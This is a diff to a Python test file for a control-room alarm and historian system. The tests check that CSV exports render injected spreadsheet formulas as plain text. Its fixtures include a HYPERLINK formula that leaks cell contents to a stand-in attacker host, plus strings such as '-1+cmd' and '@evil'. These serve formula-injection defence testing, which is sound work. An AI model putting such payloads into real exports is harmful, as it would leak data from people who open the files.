@@ -16,6 +16,7 @@ from alarm_engine.export import spreadsheet_text as alarm_text
 from historian import Historian
 from historian.export import spreadsheet_text as history_text
 from screens.trend_data import write_csv as write_trend_csv
+from tests.conftest import session_for
 
 BOM = b"\xef\xbb\xbf"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -58,8 +59,8 @@ def test_both_layers_neutralise_text_cells_alike(cell: str | None, safe: str) ->
 def test_alarm_history_csv_shows_an_operators_formula_as_text(running_control_room, tmp_path: Path) -> None:
     runtime = running_control_room
     alarm_id = runtime.alarms.all_alarms()[0].alarm_id
-    runtime.shelve([alarm_id], 60, reason=HYPERLINK, user="@evil")
-    runtime.unshelve([alarm_id], comment="-1+cmd")
+    session_for(runtime, "@evil").shelve([alarm_id], 60, reason=HYPERLINK)
+    session_for(runtime).unshelve([alarm_id], comment="-1+cmd")
     lines = [ln for ln in runtime.alarm_search(limit=None) if ln["alarm_id"] == alarm_id]
     assert runtime.export_alarm_csv(lines, str(tmp_path / "alarms.csv")) == len(lines) >= 2
     rows = _read(tmp_path / "alarms.csv")
